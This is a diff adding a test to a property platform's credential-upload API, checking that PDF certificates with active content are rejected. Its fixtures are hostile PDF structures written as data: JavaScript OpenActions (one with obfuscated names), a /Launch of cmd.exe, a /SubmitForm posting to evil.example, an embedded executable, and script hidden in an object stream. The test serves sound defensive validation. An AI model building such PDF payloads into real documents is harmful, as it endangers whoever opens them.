@@ -2,11 +2,13 @@
 import { describe, expect, test } from 'bun:test';
 import { agentMessages } from '@naija-homes/contracts/agent';
 import { messages } from '@naija-homes/contracts/messages';
+import { pdfMessages } from '@naija-homes/contracts/upload';
 import { eq } from 'drizzle-orm';
 import { agents } from '../../db/schema';
 import { notMultipart } from '../../lib/upload';
 import { setupTestApp } from '../../test/app';
 import { exeBytes, jpegBytes, oversized, pdfBytes } from '../../test/files';
+import { catalog, objectStream, page, pages, pdfOf, stream } from '../../test/pdfs';
 import { signedInUser, signedUpUser } from '../../test/users';
 
 const t = await setupTestApp();
@@ -125,6 +127,46 @@ describe('professional credentials', () => {
     const rejected = await signedUpUser(t, 'AGENT');
     await t.database.db.update(agents).set({ status: 'rejected' }).where(eq(agents.userId, rejected.user._id));
     expect((await rejected.client.upload('PATCH', '/api/v1/agent/credentials', fields, pdf())).status).toBe(200);
+  });
+
+  test('a certificate with scripts, actions or attached files, however spelt, is refused and not stored', async () => {
+    const agent = await signedUpUser(t, 'AGENT');
+    const active: [string, Uint8Array<ArrayBuffer>][] = [
+      ['/JavaScript', pdfOf(catalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>'), pages, page())],
+      ['/J#61vaScript', pdfOf(catalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert(1)) >>'), pages, page())],
+      ['/JS', pdfOf(catalog('/OpenAction << /S /Foo /JS (x) >>'), pages, page())],
+      ['/Launch', pdfOf(catalog('/OpenAction << /S /Launch /F (cmd.exe) >>'), pages, page())],
+      ['/AA', pdfOf(catalog(), pages, page('/AA << /O << /S /GoTo /D [3 0 R /Fit] >> >>'))],
+      ['/EmbeddedFile', pdfOf(catalog(), pages, page(), stream('/Type /EmbeddedFile', 'MZ'))],
+      ['/RichMedia', pdfOf(catalog(), pages, page('/Annots [<< /Subtype /RichMedia >>]'))],
+      ['/SubmitForm', pdfOf(catalog('/OpenAction << /S /SubmitForm /F (https://evil.example/) >>'), pages, page())],
+      ['/ImportData', pdfOf(catalog('/OpenAction << /S /ImportData /F (x.fdf) >>'), pages, page())],
+      [
+        'JavaScript in a compressed object stream',
+        pdfOf(catalog('/OpenAction 20 0 R'), pages, page(), objectStream(['<< /S /J#61vaScript /JS (x) >>'])),
+      ],
+    ];
+    for (const [label, bytes] of active) {
+      const response = await agent.client.upload('PATCH', '/api/v1/agent/credentials', fields, pdf(bytes));
+      expect({ label, status: response.status, body: response.body }).toEqual({
+        label,
+        status: 400,
+        body: { message: pdfMessages.activeContent },
+      });
+    }
+    const hexObjects = pdfOf(
+      catalog(),
+      pages,
+      page(),
+      objectStream(['<< /S /GoTo >>'], '/Type /ObjStm', '/Filter /ASCIIHexDecode'),
+    );
+    const unreadable = await agent.client.upload('PATCH', '/api/v1/agent/credentials', fields, pdf(hexObjects));
+    expect(unreadable).toMatchObject({ status: 400, body: { message: pdfMessages.unreadable } });
+    const [row] = await t.database.db.select().from(agents).where(eq(agents.userId, agent.user._id));
+    expect(row?.certificatePdf).toBeNull();
+    // A plain one, opening at its first page, is taken.
+    const plain = pdfOf(catalog('/OpenAction [3 0 R /Fit]'), pages, page());
+    expect((await agent.client.upload('PATCH', '/api/v1/agent/credentials', fields, pdf(plain))).status).toBe(200);
   });
 
   test('only agents save credentials', async () => {
